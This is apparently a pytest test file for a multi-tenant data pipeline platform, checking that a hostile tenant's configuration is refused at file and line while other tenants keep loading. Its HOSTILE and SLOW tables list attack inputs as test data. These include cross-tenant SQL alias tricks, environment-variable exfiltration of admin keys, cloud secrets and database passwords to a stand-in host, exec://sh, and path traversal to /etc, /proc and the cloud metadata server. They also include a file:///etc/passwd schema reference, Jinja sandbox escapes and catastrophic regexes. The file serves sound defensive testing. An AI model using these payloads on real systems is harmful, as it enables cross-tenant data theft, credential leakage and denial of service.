"""Whatever a tenant's files ask for that is not its own: refused at file and line, the others go on; so, too, for a version
that was accepted before there was the rule, and where that tenant alone is loaded."""

from collections.abc import Callable
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest

from convergence_assets.assets.factory import build_assets
from convergence_assets.scheduling.launching import build_scheduling
from convergence_assets.settings import Settings
from convergence_assets.tenancy.loading import LoadContext
from convergence_assets.tenancy.registry import load_registry

TODAY = date(2026, 11, 23)
OTHERS = {"acme", "globex", "initech"}
TENANT = "tenant.yaml"
PIPELINE = "pipelines/total_cost/pipeline.yaml"
SUITE = "pipelines/total_cost/expectations/licences.yaml"
EXPORT = "mallory_billing_export.gcp_billing_export_resource_v1_2C3D4E_5F6A7B_8C9D0E"
PATH = "{{ landing }}/licences/{date}/*.csv"
ROUTE = 'alerts: {{routes: [{{severities: [critical], to: "{to}"}}]}}\nplan: starter'
MINUTES = "max_pipeline_duration_minutes: 30"

Change = tuple[str, str, str]


def route(to: str) -> Change:
    return (TENANT, "plan: starter", ROUTE.format(to=to))


def table(name: str) -> Change:
    return (TENANT, EXPORT, name)


def path(pattern: str) -> Change:
    return (PIPELINE, PATH, pattern)


def expectation(type_: str, kwargs: str) -> Change:
    return (SUITE, "expectations:\n", f"expectations:\n  - type: {type_}\n    kwargs: {{column: vendor, {kwargs}}}\n")


SQL = "pipelines/total_cost/total_cost_daily.sql"
FROM = "FROM services AS s\n"
SOURCE = """
sources:
  src:
    table: mallory_own.src
    partition_column: %s
    ingestion_time_from: at
    columns: [{name: at, type: TIMESTAMP}]

steps:
"""


def sql(text: str) -> Change:
    return (SQL, FROM, text + "\n")


def query(text: str) -> Change:
    check = f"expectations:\n  - type: unexpected_rows_expectation\n    severity: info\n    meta: {{name: probe}}\n    kwargs: {{unexpected_rows_query: {text!r}}}\n"
    return (SUITE, "expectations:\n", check)


HOSTILE: dict[str, Change] = {
    "another's table by an alias of its dataset": sql(
        "FROM globex.gcp_cost_daily AS s CROSS JOIN licences AS globex CROSS JOIN services"),
    "another's table by a CTE of its dataset": sql("FROM services AS s CROSS JOIN (WITH globex AS (SELECT 1 AS a) SELECT * FROM globex.gcp_cost_daily)"),
    "another's table within a subquery": sql(
        "FROM services AS s CROSS JOIN (SELECT 1 FROM globex.gcp_cost_daily) AS g CROSS JOIN licences AS globex"),
    "another project's table by an alias": sql("FROM services AS s CROSS JOIN p.globex.t AS x CROSS JOIN licences AS p"),
    "everybody's jobs by an alias": sql(
        "FROM services AS s, `region-eu`.INFORMATION_SCHEMA.JOBS AS j CROSS JOIN licences AS `region-eu`"),
    "another's table in a check": query(
        "WITH globex AS (SELECT 1 AS a) SELECT usage_date, service_description FROM globex.gcp_cost_daily"),
    "another's table beside the batch": query("SELECT g.* FROM globex.gcp_cost_daily AS g CROSS JOIN {batch} AS globex"),
    "SQL in the name of a column": (
        PIPELINE, "\nsteps:\n", SOURCE % "'CAST(NULL AS DATE) AS z FROM b.e UNION ALL SELECT at'"),
    "a template of messages, with a sign": route("workflows://h.example/A/B?template+=/srv/landing/globex/x.json"),
    "a template of messages, escaped twice": route("workflows://h.example/A/B?te%256Dplate=/srv/x.json"),
    "a key of mails, with a sign": route("mailto://h.example?from=a@b.example&to=c@d.example&pgpprv+=/root/key"),
    "a table that Dagster cannot name": table("mallory_x.a$b-c"),
    "a terminal's commands": (TENANT, "display_name: Initech", 'display_name: "x\\e[2J\\r\\nacme: all fine"'),
    "a name of a kilobyte": (TENANT, "display_name: Initech", f"display_name: {'x' * 1000}"),
    "the admin key": route("jsons://h.example/${env:CONVERGENCE_ADMIN_KEY}"),
    "the metrics token": route("jsons://h.example/${env:CONVERGENCE_METRICS_TOKEN}"),
    "a cloud key": route("jsons://h.example/${env:AWS_SECRET_ACCESS_KEY}"),
    "Google's key file": route("${env:GOOGLE_APPLICATION_CREDENTIALS}"),
    "Dagster's database": route("jsons://h.example/${env:DAGSTER_PG_PASSWORD}"),
    "libpq's password": route("jsons://h.example/${env:PGPASSWORD}"),
    "Redis": route("jsons://h.example/${env:REDIS_URL}"),
    "another tenant's variable": route("${env:ACME__SLACK_URL}"),
    "the search path": route("jsons://h.example/${env:PATH}"),
    "two variables, one its own": route("jsons://h.example/${env:MALLORY__A}${env:HOME}"),
    "the system's log": route("syslog://localhost"),
    "a bus of the desktop": route("dbus://"),
    "a program": route("exec://sh"),
    "another tenant's table": table("globex.gcp_cost_daily"),
    "another tenant's table, in capitals": table("GLOBEX.gcp_cost_daily"),
    "another tenant's staging": table("_staging_globex.gcp_cost_daily"),
    "another tenant's ledger": table("acme.x_meta_pipeline_runs"),
    "what the warehouse says of itself": table("globex.INFORMATION_SCHEMA"),
    "another tenant's export": table("globex_billing_export.gcp_billing_export_resource_v1_1B2C3D_4E5F6A_7B8C9D"),
    "the platform's dataset": table("convergence_meta.runs"),
    "the password file": path("/etc/{date}"),
    "the root": path("/{date}"),
    "a process": path("/proc/self/{date}"),
    "another tenant's landing folder": path("{{ landing }}/../globex/{date}/*"),
    "a folder that begins like its own": path("{{ landing }}_eu/{date}/*"),
    "a file by its scheme": path("file:///etc/{date}"),
    "the metadata server": path("http://169.254.169.254/{date}"),
    "memory": path("memory://x/{date}"),
    "a cache around a bucket": path("simplecache::s3://b/x/{date}"),
    "a whole bucket": path("gs://bucket/{date}"),
    "a password in a URL": path("https://me:secret@h.example/x/{date}"),
    "a way out behind the date": path("{{ landing }}/{date}/../../globex/{date}.csv"),
    "a way out of a URL behind the date": path("https://h.example/mallory/{date}/../../globex/{date}.csv"),
    "a host in capitals": path("https://H.example/globex/{date}.csv"),
    "a port that is meant anyway": path("https://h.example:443/globex/{date}.csv"),
    "letters by their numbers": path("https://h.example/%67lobex/{date}.csv"),
    "a path that begins with nothing": path("gs:///bucket/x/{date}.csv"),
    "a path that stays where it is": path("s3://bucket/./globex/{date}.csv"),
    "a template of messages": route("workflows://h.example/A/B?template=/srv/landing/globex/x.json"),
    "a key of mails": route("mailto://h.example?from=a@b.example&to=c@d.example&pgpprv=/root/key"),
    "a wait of ten million years": (TENANT, "start_date: 2026-10-01", "start_date: 2026-10-01\n    wait_at_most_hours: 100000000000"),
    "late after two thousand years": (TENANT, "start_date: 2026-10-01", "start_date: 2026-10-01\n    late_after_minutes: 1100000000"),
    "a run that is never stuck": (TENANT, "start_date: 2026-10-01", "start_date: 2026-10-01\n    stuck: {no_progress_minutes: .inf}"),
    "a larger plan": (TENANT, "plan: starter", "plan: enterprise"),
    "another project": (TENANT, "location: asia-south1", "location: asia-south1, project: their-project"),
    "another account": (TENANT, "plan: starter", "plan: starter\nservice_account: admin-of-all@p.iam.gserviceaccount.com"),
    "more bytes": (PIPELINE, MINUTES, "maximum_gigabytes_billed: 100000"),
    "more time": (PIPELINE, MINUTES, "max_pipeline_duration_minutes: 1440"),
    "more rows in a frame": (PIPELINE, MINUTES, "validate_in_warehouse_above_rows: 1000000000"),
    "code in a row condition": expectation("expect_column_values_to_not_be_null",
                                           "row_condition: \"vendor.to_csv('/tmp/x')\", condition_parser: pandas"),
    "a pattern that looks ahead": expectation("expect_column_values_to_match_regex", "regex: '(?=a)b'"),
    "a pattern without end": expectation("expect_column_values_to_match_regex", "regex: '(a{900}){900}'"),
    "a schema in a file": expectation("expect_column_values_to_match_json_schema",
                                      "json_schema: {$ref: 'file:///etc/passwd'}"),
}  # fmt: skip


@pytest.fixture
def mallory(tenants: Path) -> Callable[[Change | None], Path]:
    """A tenant like initech, with one change; its folder."""

    def made(change: Change | None) -> Path:
        folder = tenants / "mallory"
        for file in (tenants / "initech").rglob("*"):
            if file.is_file():
                target = folder / file.relative_to(tenants / "initech")
                target.parent.mkdir(parents=True, exist_ok=True)
                target.write_text(file.read_text().replace("initech", "mallory"))
        if change:
            name, old, new = change
            text = (folder / name).read_text()
            assert old in text, (old, text)
            (folder / name).write_text(text.replace(old, new, 1))
        return folder

    return made


def test_without_a_change_the_tenant_is_served(tenants: Path, mallory: Callable[[Change | None], Path]) -> None:
    mallory(None)
    registry = load_registry(str(tenants), None, today=TODAY)
    assert not registry.problems, [problem.render() for problem in registry.problems]


@pytest.mark.parametrize("change", HOSTILE.values(), ids=HOSTILE)
def test_it_is_refused_at_its_file_and_line_and_the_others_go_on(
    tenants: Path, tmp_path: Path, mallory: Callable[[Change | None], Path], change: Change
) -> None:
    load_registry(str(tenants), tmp_path / "accepted", today=TODAY)  # the others were there first
    folder = mallory(change)
    registry = load_registry(str(tenants), tmp_path / "accepted", today=TODAY)
    assert set(registry.tenants) == OTHERS
    for problem in registry.rejected["mallory"].problems:
        assert problem.file.startswith(str(folder))
        assert problem.line


@pytest.mark.parametrize("change", [None, *HOSTILE.values()], ids=["nothing of another's", *HOSTILE])
def test_a_version_that_was_accepted_before_is_served_by_no_load_but_where_it_asks_for_its_own(
    tenants: Path, tmp_path: Path, mallory: Callable[[Change | None], Path], change: Change | None
) -> None:
    accepted = tmp_path / "accepted"
    load_registry(str(tenants), accepted, today=TODAY)
    folder = mallory(change)
    kept = accepted / ".versions" / "mallory" / "of-yesterday"
    for file in folder.rglob("*"):
        if file.is_file():
            target = kept / file.relative_to(folder)
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(file.read_bytes())
    (kept / ".defaults.yaml").write_text(
        (tenants / "_defaults.yaml").read_text().replace("plan: standard", "plan: enterprise")
    )
    (accepted / "mallory").symlink_to(Path(".versions") / "mallory" / "of-yesterday")
    (folder / TENANT).write_text((folder / TENANT).read_text().replace("timezone:", "time zone:"))
    whole = load_registry(str(tenants), accepted, today=TODAY)
    assert set(whole.tenants) == (OTHERS if change else OTHERS | {"mallory"})
    context = LoadContext(owners={**whole.owners, f".{EXPORT}".lower(): "mallory"})
    alone = load_registry(str(tenants), accepted, today=TODAY, only=["mallory"], context=context)
    assert set(alone.tenants) == (set() if change else {"mallory"})


def test_all_of_it_at_once_delays_nobody(tenants: Path, mallory: Callable[[Change | None], Path]) -> None:
    folder = mallory(None)
    for name, (file, old, new) in HOSTILE.items():
        own = tenants / f"mallory{list(HOSTILE).index(name)}x"
        for one in folder.rglob("*"):
            if one.is_file():
                target = own / one.relative_to(folder)
                target.parent.mkdir(parents=True, exist_ok=True)
                target.write_text(one.read_text().replace("mallory", own.name))
        (own / file).write_text((own / file).read_text().replace(old.replace("mallory", own.name), new, 1))
    registry = load_registry(str(tenants), None, today=TODAY)
    assert OTHERS - {"globex"} <= set(registry.tenants)
    assert len(registry.rejected) >= len(HOSTILE)


def template(text: str) -> Change:
    return (SQL, "WITH costs", text + "\nWITH costs")


LOOP = "{% set l = range(90000)|list %}{% for i in range(900) %}{% if CONDITION %}x{% endif %}{% endfor %}"
SLOW: dict[str, Change] = {
    "a power of a power": template("{{ 9**(9**9) }}"),
    "a text of a gigabyte": template("{{ ''|center(1200000000) }}"),
    "Python's own classes": template("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    "a list searched again and again": template(LOOP.replace("CONDITION", " or ".join(["-1 in l"] * 40))),
    "two lists compared again and again": template(
        "{% set m = range(90000)|list %}" + LOOP.replace("CONDITION", " or ".join(["l != m"] * 40))),
    "a list tested again and again": template(LOOP.replace("CONDITION", " or ".join(["-1 is in(l)"] * 40))),
    "a list cut again and again": template(LOOP.replace("CONDITION", " or ".join(["l[1:] == 1"] * 40))),
    "twenty thousand expressions": template("{{1}}" * 20_000),
    "a dictionary of twenty thousand": template("{% set d = {" + ", ".join(f"'k{i}': 1" for i in range(20_000)) + "} %}"),
    "a table joined thousands of times": sql("FROM services AS s, " + ", ".join(f"licences AS a{i}" for i in range(4_500))),
    "thousands of brackets left open": (
        TENANT, "plan: starter", "plan: starter\nx: aaa\n" + " b[\n" * 40_000 + "y: {a: [}"),
    "thousands of lines out of line": (
        TENANT, "plan: starter", "plan: starter\nx: aaa\n" + "    c\n   c\n  c\n c\n" * 10_000 + "y: : :"),
    "thousands of tables read as one": (
        PIPELINE, "\nsteps:\n", (SOURCE % "at").replace(
            "mallory_own.src", "\"{% for i in range(1900) %}mallory_x.t{{i}}, {% endfor %}mallory_x.z\"")),
}  # fmt: skip


@pytest.mark.timeout(20)
@pytest.mark.parametrize("change", SLOW.values(), ids=SLOW)
def test_what_would_take_long_is_refused_before_it_does(
    tenants: Path, mallory: Callable[[Change | None], Path], change: Change
) -> None:
    folder = mallory(change)
    registry = load_registry(str(tenants), None, today=TODAY)
    problems = registry.rejected["mallory"].problems
    assert problems
    assert all(problem.file.startswith(str(folder)) for problem in problems)


@pytest.mark.timeout(20)
def test_many_checks_of_one_name_and_many_large_patterns_are_read_in_their_time(
    tenants: Path, mallory: Callable[[Change | None], Path]
) -> None:
    folder = mallory(None)
    column = "  - type: expect_column_values_to_not_be_null\n    severity: info\n    kwargs: {column: vendor}\n"
    patterns = ", ".join(f"'[\\p{{L}}]{{50,{n}}}N'" for n in range(100, 400))
    kwargs = f"{{column: vendor, regex_list: [{patterns}]}}"
    listed = f"  - type: expect_column_values_to_match_regex_list\n    severity: info\n    kwargs: {kwargs}\n"
    suite = folder / SUITE
    suite.write_text(suite.read_text().rstrip() + "\n" + column * 3_000 + listed)
    load_registry(str(tenants), None, today=TODAY)


def test_a_tenant_has_a_bound_on_all_of_its_sql(tenants: Path, mallory: Callable[[Change | None], Path]) -> None:
    folder = mallory(None)
    pipeline = folder / PIPELINE
    head, last = pipeline.read_text().rsplit("  - kind: bigquery\n", 1)
    text = (folder / SQL).read_text()
    long = text.replace("FROM services AS s", f"FROM services AS s\nWHERE s.service != '{'x' * 190_000}'")
    steps = ""
    for number in range(4):
        steps += "  - kind: bigquery\n" + last.replace("total_cost_daily", f"total_cost_{number}")
        (folder / "pipelines" / "total_cost" / f"total_cost_{number}.sql").write_text(long)
    pipeline.write_text(head + steps)
    (folder / "pipelines" / "total_cost" / "expectations" / "total_cost_daily.yaml").unlink()
    (folder / SQL).unlink()
    problems = load_registry(str(tenants), None, today=TODAY).rejected["mallory"].problems
    assert [p.message for p in problems] == ["the tenant's SQL has more than 500000 characters in all"], problems


def test_two_of_a_tenants_tables_with_one_name_in_dagster_are_refused(
    tenants: Path, mallory: Callable[[Change | None], Path]
) -> None:
    folder = mallory(None)
    own = folder / "pipelines" / "total_cost"
    for name, pair in (("foo", "bar__baz"), ("foo__bar", "baz")):
        target = folder / "pipelines" / name
        target.mkdir()
        files, _ = (own / "pipeline.yaml").read_text().split("  - kind: bigquery\n", 1)
        (target / "pipeline.yaml").write_text(
            files.replace("name: total_cost", f"name: {name}").replace("licences\n", f"{pair}\n", 1)
        )
    with (folder / TENANT).open("a") as file:
        file.writelines(f"  - template: {name}\n    start_date: 2026-10-01\n" for name in ("foo", "foo__bar"))
    messages = [p.message for p in load_registry(str(tenants), None, today=TODAY).rejected["mallory"].problems]
    assert messages == ["foo__bar/baz and foo/bar__baz have one name in Dagster"]


def test_a_schedule_is_the_same_however_it_is_spaced(tenants: Path, mallory: Callable[[Change | None], Path]) -> None:
    mallory((TENANT, '"0 7 * * *"', '" 0  7 * * * "'))
    registry = load_registry(str(tenants), None, today=TODAY)
    assert registry.tenants["mallory"].pipelines[1].schedule == "0 7 * * *"
    schedules, _ = build_scheduling(registry, Settings.from_env({}))
    assert len({schedule.name for schedule in schedules}) == len(schedules)


def test_a_tenant_whose_assets_dagster_does_not_take_is_set_aside_and_the_others_live(tenants: Path) -> None:
    registry = load_registry(str(tenants), None, today=TODAY)
    globex, acme = registry.tenants["globex"], registry.tenants["acme"]
    step = globex.pipelines[0].steps[0]
    own = replace(acme.pipelines[0], steps=(replace(step, table="c"),))
    first = replace(acme, pipelines=(replace(own, name="a__b"),))
    second = replace(acme, tenant_id="acme__a", pipelines=(replace(own, name="b"),))
    both = replace(registry, tenants={"acme": first, "acme__a": second, "globex": globex})
    assets, faulty = build_assets(both, Settings.from_env({}))
    keys = {asset.key.to_user_string() for asset in assets}
    assert {"acme/a__b/c", "acme__a/config", "globex/gcp_billing/gcp_focus"} <= keys
    assert "acme__a/b/c" not in keys
    served = both.set_aside(faulty)
    assert set(served.tenants) == {"acme", "globex"}, "and the planner does not ask for its runs"
    (problem,) = served.rejected["acme__a"].problems
    assert problem.message == "its assets cannot be made: acme__a/b/c and acme/a__b/c have one name in Dagster"
    assert problem in served.problems
